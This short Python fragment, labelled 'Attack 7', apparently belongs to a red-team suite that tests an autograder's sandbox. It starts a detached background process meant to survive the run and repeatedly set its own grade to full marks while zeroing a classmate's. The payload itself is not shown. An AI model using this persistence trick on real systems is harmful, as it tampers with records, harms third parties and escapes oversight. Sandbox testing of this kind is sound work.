# Attack 7: leave a process behind (new session, double fork, hangup ignored) that, from 15 s on and once this
# submission is merged into the course, gives it full marks and zeroes a classmate, again every 3 s.
import os
import subprocess
import sys

_rt_middle = subprocess.Popen([sys.executable, "-c", __CHILD__], start_new_session=True, cwd=os.getcwd(),
                              stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
_rt_middle.wait()                     # it forks and exits at once: its child lives on, re-parented
print("redteam: detached process started")
